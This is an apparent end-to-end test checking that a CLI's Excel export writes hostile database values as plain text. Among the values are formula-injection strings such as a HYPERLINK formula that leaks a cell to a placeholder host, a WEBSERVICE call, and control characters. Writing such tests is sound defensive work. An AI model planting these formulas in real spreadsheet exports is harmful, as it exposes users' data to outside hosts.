"""`qabot export` with hostile text in the data: formulas stay text, control characters do
not break the workbook (issue 12, items 1 and 2, on the way out)."""

from __future__ import annotations

import asyncio
from datetime import UTC, date, datetime
from pathlib import Path

import openpyxl

from domain.commitments import CommitmentStatus
from domain.reports import ReportStatus, Urgency
from domain.roles import Party, Role
from storage.db import create_engine, session_factory
from storage.models import Agreement, Bureau, Commitment, Enterprise, Person, Report
from tests.e2e.test_cli import env, json_out, run  # noqa: F401  (env is a fixture)

LEAK = '=HYPERLINK("http://x/?leak="&B2,"Click")'
CONTROL = "M8\x01螺栓\x1b[31m"


async def _hostile_rows(url: str) -> None:
    now = datetime(2026, 11, 30, 2, 0, tzinfo=UTC)
    engine = create_engine(url)
    async with session_factory(engine)() as session, session.begin():
        bureau = Bureau(name="杭州市", city="杭州市")
        session.add(bureau)
        await session.flush()
        officer = Person(name="@SUM(1+1)", role=Role.OFFICER, bureau_id=bureau.id, created_at=now)
        session.add(officer)
        await session.flush()
        firm = Enterprise(
            name=' \t=WEBSERVICE("http://x")',
            bureau_id=bureau.id,
            officer_id=officer.id,
            created_at=now,
        )
        session.add(firm)
        await session.flush()
        staff = Person(name="质量部", role=Role.STAFF, enterprise_id=firm.id, created_at=now)
        agreement = Agreement(enterprise_id=firm.id, created_at=now)
        session.add_all([staff, agreement])
        await session.flush()
        for number, product in enumerate((LEAK, CONTROL), 1):
            session.add(
                Report(
                    reference=f"QP-2026-{number:04d}",
                    enterprise_id=firm.id,
                    reporter_id=staff.id,
                    officer_id=officer.id,
                    areas=["std"],
                    product=product,
                    description="尺寸超差",
                    urgency=Urgency.NORMAL,
                    status=ReportStatus.SUBMITTED,
                    submitted_at=now,
                )
            )
        session.add(
            Commitment(
                agreement_id=agreement.id,
                enterprise_id=firm.id,
                party=Party.ENTERPRISE,
                text="-2+3",
                due_on=date(2026, 11, 20),
                status=CommitmentStatus.OPEN,
                created_at=now,
            )
        )
    await engine.dispose()


def test_export_writes_hostile_text_as_text(env: dict[str, str], tmp_path: Path) -> None:  # noqa: F811
    assert run(["db", "upgrade"], env).returncode == 0
    asyncio.run(_hostile_rows(env["DATABASE_URL"]))
    target = tmp_path / "export.xlsx"
    json_out(run(["export", str(target), "--json"], env))

    book = openpyxl.load_workbook(target)
    reports = book["问题报告"]
    products = {reports.cell(row, 5).value: reports.cell(row, 5) for row in (2, 3)}
    assert set(products) == {LEAK, "M8螺栓[31m"}
    assert products[LEAK].data_type == "s" and products[LEAK].quotePrefix
    # No cell of any sheet is a formula, whatever sheet the hostile names reached.
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    names = {c.value for c in cells if isinstance(c.value, str)}
    assert {' \t=WEBSERVICE("http://x")', "@SUM(1+1)", "-2+3"} <= names
